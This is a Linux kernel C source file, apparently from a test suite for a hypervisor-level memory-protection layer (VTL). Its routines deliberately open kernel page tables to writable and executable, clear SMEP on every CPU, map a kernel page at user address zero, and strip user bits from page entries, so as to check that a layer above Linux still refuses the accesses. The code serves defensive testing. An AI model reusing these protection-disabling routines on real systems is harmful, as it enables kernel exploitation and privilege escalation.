// SPDX-License-Identifier: GPL-2.0-only
/*
 * VTL0's own page tables, opened: all that the kernel maps becomes writable and
 * executable, as by an attacker who can write the kernel's memory. What refuses
 * a write or a fetch afterwards is not Linux. The kernel's own tests of its
 * memory's rights (LKDTM) run on these tables: tests/boot/test_lkdtm.py. Not
 * undone: the kernel stays open until it is started again.
 */
#include <linux/ctype.h>
#include <linux/gfp.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/mman.h>
#include <linux/sched.h>
#include <linux/slab.h>
#include <linux/smp.h>
#include <linux/string.h>
#include <asm/io.h>
#include <asm/pgtable.h>
#include <asm/special_insns.h>

#include "attack.h"

#define ADDRESS   0x000FFFFFFFFFF000ULL
#define TABLE     (PTE_P | PTE_W | PTE_A)
#define CR4_PGE   (1UL << 7)
#define CR4_LA57  (1UL << 12)
#define CR4_SMEP  (1UL << 20)
#define DIRECTORY (1UL << 21) /* what one page table maps */
#define RET       0xC3
#define ANYONES   (PROT_READ | PROT_WRITE | PROT_EXEC)

static unsigned int levels(void)
{
	return native_read_cr4() & CR4_LA57 ? 5 : 4;
}

static u64 *root(void)
{
	return phys_to_virt(__read_cr3() & ADDRESS);
}

static void set_cr4(void *value)
{
	asm volatile("mov %0, %%cr4" : : "r"(value) : "memory");
}

/* All translations of this CPU, global ones too. */
static void flush(void *unused)
{
	u64 cr4 = native_read_cr4();

	set_cr4((void *)(cr4 ^ CR4_PGE));
	set_cr4((void *)cr4);
}

/* ---- the kernel's half ---------------------------------------------------- */

struct opened {
	u64 writable, executable; /* entries that were not */
};

/* Every entry of and below @table that is the kernel's. @level: 1 is the page table. Bounded by the depth. */
static void open_entries(struct opened *o, u64 *table, unsigned int level, unsigned int first)
{
	unsigned int i;

	for (i = first; i < PTRS_PER_PTE; i++) {
		u64 e = READ_ONCE(table[i]);

		if (!(e & PTE_P))
			continue;
		if (level > 1 && !(e & PTE_PS))
			open_entries(o, phys_to_virt(e & ADDRESS), level - 1, 0);
		else if (e & PTE_U)
			continue; /* vsyscall */
		o->writable += !(e & PTE_W);
		o->executable += !!(e & PTE_NX);
		WRITE_ONCE(table[i], (e | PTE_W) & ~PTE_NX);
	}
}

static void run_rights(struct report *r)
{
	struct opened o = {};

	__default_kernel_pte_mask &= ~PTE_NX; /* what the kernel maps from now on */
	open_entries(&o, root(), levels(), PTRS_PER_PTE / 2);
	on_each_cpu(flush, NULL, 1);
	row(r, "rights_open", o.writable && o.executable ? "ok" : "norun",
	    "%llu made writable, %llu executable", o.writable, o.executable);
}

static void write_byte(void *at)
{
	WRITE_ONCE(*(u8 *)at, READ_ONCE(*(u8 *)at));
}

/* The kernel's own constants, on the tables that run_rights() opened; LKDTM has a module's. */
static void run_rights_constants(struct report *r)
{
	struct catch_table_register idt;
	struct caught c;

	catch_idt_store(&idt);
	row(r, "rights_rodata", try_here(&c, write_byte, (void *)_ctype, 0), "a constant");
	row(r, "rights_after_init", try_here(&c, write_byte, (void *)kmalloc_caches, 0),
	    "constant since the kernel's start");
	row(r, "rights_idt", try_here(&c, write_byte, (void *)idt.base, 0), "the interrupt table");
}

/* ---- SMEP ------------------------------------------------------------------ */

static const char *smep_off;

static void clear_smep(void *unused)
{
	struct caught c;
	const char *o = try_here(&c, set_cr4, (void *)(native_read_cr4() & ~CR4_SMEP), 0);

	if (!smep_off || strcmp(o, "ok"))
		smep_off = o;
}

static void run_rights_smep(struct report *r)
{
	smep_off = NULL;
	if (native_read_cr4() & CR4_SMEP)
		on_each_cpu(clear_smep, NULL, 1);
	row(r, "rights_smep", smep_off ?: "none", "CR4 %lx", native_read_cr4());
}

/* ---- the half of the program that asks ------------------------------------- */

/* The entry for @va in the table of @level; NULL if the tables above it have none and @make is false, or without memory. */
static u64 *entry(unsigned long va, unsigned int level, bool make)
{
	u64 *table = root();
	unsigned int l;

	for (l = levels();; l--) {
		u64 *e = &table[va >> (PAGE_SHIFT + 9 * (l - 1)) & (PTRS_PER_PTE - 1)];

		if (l == level)
			return e;
		if (!(*e & PTE_P)) {
			u64 *below = make ? (u64 *)get_zeroed_page(GFP_KERNEL) : NULL;

			if (!below)
				return NULL;
			*e = virt_to_phys(below) | TABLE;
		}
		if (*e & PTE_PS)
			return NULL;
		table = phys_to_virt(*e & ADDRESS);
	}
}

/* Address 0 of this program leads to a page of the kernel's that returns at once. The page stays. */
static void run_rights_null(struct report *r)
{
	u8 *page = (u8 *)__get_free_page(GFP_KERNEL);
	u64 *e = entry(0, 1, true);

	if (!page || !e || *e) {
		row(r, "rights_null", "norun", "entry %llx", e ? *e : 0);
		return;
	}
	memset(page, RET, PAGE_SIZE);
	*e = virt_to_phys(page) | PTE_RW;
	flush(NULL);
	row(r, "rights_null", "ok", "-");
}

static unsigned long map(unsigned long bytes, unsigned long rights)
{
	return vm_mmap(NULL, 0, bytes, rights, MAP_PRIVATE | MAP_ANONYMOUS, 0);
}

/*
 * The next page that this program maps is the kernel's for the CPU: the directory
 * entry above it lacks the user bit, so SMEP has nothing to say. The place is a
 * directory of its own; a second page keeps its table.
 */
static void run_rights_user(struct report *r)
{
	unsigned long top = map(PAGE_SIZE, PROT_NONE), two, next;
	struct page *page;
	u64 *e;

	if (IS_ERR_VALUE(top) || (top % DIRECTORY && IS_ERR_VALUE(map(top % DIRECTORY, PROT_NONE)))) {
		row(r, "rights_user", "norun", "no room");
		return;
	}
	two = map(2 * PAGE_SIZE, ANYONES);
	if (IS_ERR_VALUE(two) || get_user_pages_fast(two, 1, FOLL_WRITE, &page) != 1) {
		row(r, "rights_user", "norun", "no page");
		return;
	}
	put_page(page);
	vm_munmap(two + PAGE_SIZE, PAGE_SIZE);
	next = map(PAGE_SIZE, ANYONES);
	e = entry(two, 2, false);
	if (next != two + PAGE_SIZE || next / DIRECTORY != two / DIRECTORY || !e || !(*e & PTE_U)) {
		row(r, "rights_user", "norun", "%lx, then %lx", two, next);
		return;
	}
	vm_munmap(next, PAGE_SIZE);
	*e &= ~PTE_U;
	flush(NULL);
	row(r, "rights_user", "ok", "%lx", next);
}

const struct attack rights_attacks[] = {
	{ "rights", run_rights },           { "rights_constants", run_rights_constants },
	{ "rights_smep", run_rights_smep }, { "rights_null", run_rights_null },
	{ "rights_user", run_rights_user }, {}
};
